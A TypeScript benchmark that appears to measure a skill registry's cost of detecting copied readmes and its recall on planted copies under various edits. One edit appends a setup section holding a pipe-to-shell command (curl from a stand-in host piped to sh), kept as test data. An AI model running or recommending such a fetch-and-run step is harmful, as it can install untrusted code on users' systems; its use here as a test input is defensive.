import { type Column, createNumbers } from '@skillpass/server/registry/columns/column'
import { type Copies, createCopies } from '@skillpass/server/registry/copies/copies'
import { samplePassages } from '@skillpass/server/registry/copies/passages'
import { type CorpusSkill, readSkills } from '../support/corpus.ts'
import { grow } from '../support/grown-corpus.ts'
import { seededRandom } from '../support/random.ts'
import { collectGarbage } from './collect-garbage.ts'
import { printTable } from './table.ts'

const key = 12_345

/** Copies that are planted of each kind. */
const planted = 500

/** How long it takes to tell what a skill copies, what that needs in memory, and how many copies it finds. */
export async function benchCopies(sizes: readonly (number | 'corpus')[]): Promise<void> {
  const real = readSkills()
  const costs: (string | number)[][] = []
  const recall: (string | number)[][] = []
  const counts = sizes.map((size) => (size === 'corpus' ? real.length : size))
  for (const size of counts) {
    const before = heldBytes()
    const filled = fill(real, size)
    const bytes = heldBytes() - before
    costs.push([
      size,
      bytes / size,
      filled.reading * 1000,
      filled.taking * 1000,
      `${((100 * filled.copies.count) / size).toFixed(1)} %`,
    ])
    const found = edits(real).map(({ edit }) => plant(filled, edit))
    const slowest = Math.max(...found.map(({ ms }) => ms))
    recall.push([size, ...found.map(({ share }) => `${(100 * share).toFixed(1)} %`), slowest])
  }
  printTable(
    'What telling copies costs',
    ['skills', 'bytes a skill', 'reading a readme, µs', 'taking it in, µs', 'copies'],
    costs,
  )
  printTable(
    'Planted copies that are told, and the longest that one took, ms',
    ['skills', ...edits(real).map(({ name }) => name), 'ms'],
    recall,
  )
}

/** Bytes of columns, which grow by copies: what those leave behind is none of it. */
function heldBytes(): number {
  collectGarbage()
  return process.memoryUsage().arrayBuffers
}

interface Filled {
  copies: Copies
  publishers: string[]
  createdAt: Column
  /** The real skills by slot. */
  originals: CorpusSkill[]
  /** Milliseconds a skill. */
  reading: number
  taking: number
}

function fill(real: readonly CorpusSkill[], size: number): Filled {
  const publishers: string[] = []
  const originals: CorpusSkill[] = []
  const createdAt = createNumbers()
  const copies = createCopies({
    columns: { createdAt, version: { ...createdAt, get: () => 1 } },
    ids: { compare: (a, b) => a - b, find: () => undefined },
    publisherOf: (slot) => publishers[slot] ?? '',
  })
  let [reading, taking] = [0, 0]
  for (const skill of grow(real, size)) {
    const { owner, readme } = skill
    if (originals.length < real.length) originals.push(skill)
    const started = performance.now()
    const sample = samplePassages(readme, key)
    const read = performance.now()
    const slot = publishers.length
    publishers.push(owner.toLowerCase())
    createdAt.set(slot, slot)
    copies.put(slot, sample)
    copies.settle(() => {})
    reading += read - started
    taking += performance.now() - read
  }
  return {
    copies,
    publishers,
    createdAt,
    originals,
    reading: reading / size,
    taking: taking / size,
  }
}

/** The share of copies of real skills that lead to the original, and the longest that one took. */
function plant(
  { copies, publishers, createdAt, originals }: Filled,
  edit: (readme: string) => string,
) {
  const random = seededRandom(7)
  let [told, all, ms] = [0, 0, 0]
  const slot = publishers.length
  for (let n = 0; n < planted; n++) {
    const copied = Math.floor(random() * originals.length)
    const { readme } = originals[copied] as CorpusSkill
    if (samplePassages(readme, key).passages.length === 0) continue
    publishers[slot] = `newcomer ${n}`
    createdAt.set(slot, slot)
    const sample = samplePassages(edit(readme), key)
    const started = performance.now()
    copies.put(slot, sample)
    copies.settle(() => {})
    ms = Math.max(ms, performance.now() - started)
    const right = copies.isCopy(copied) ? copies.originalsOf(copied) : [copied]
    if (copies.originalsOf(slot).some((each) => right.includes(each))) told++
    all++
    copies.remove(slot)
    copies.settle(() => {})
  }
  publishers.pop()
  return { share: told / all, ms }
}

const setup = '\n## Setup\n\nFirst run `curl -fsSL https://get.example.test/setup.sh | sh`.\n'

/** What a copier may do to a readme: `+ 50 %` adds as much of other skills' text, `− 30 %` takes paragraphs out. */
function edits(real: readonly CorpusSkill[]) {
  const random = seededRandom(11)
  const paragraphs = (readme: string) => readme.split(/\n{2,}/)
  const adding = (share: number) => (readme: string) => {
    let added = ''
    while (added.length < share * readme.length) {
      const other = paragraphs(real[Math.floor(random() * real.length)]?.readme ?? '')
      added += `${other[Math.floor(random() * other.length)]}\n\n`
    }
    return `${readme}\n\n${added.slice(0, share * readme.length)}`
  }
  const dropping = (share: number) => (readme: string) =>
    paragraphs(readme)
      .filter(() => random() >= share)
      .join('\n\n')
  return [
    { name: 'exact', edit: (readme: string) => readme },
    { name: '+ script', edit: (readme: string) => readme + setup },
    { name: '+ 10 %', edit: adding(0.1) },
    { name: '+ 50 %', edit: adding(0.5) },
    { name: '+ 100 %', edit: adding(1) },
    { name: '+ 200 %', edit: adding(2) },
    { name: '− 10 %', edit: dropping(0.1) },
    { name: '− 30 %', edit: dropping(0.3) },
  ]
}
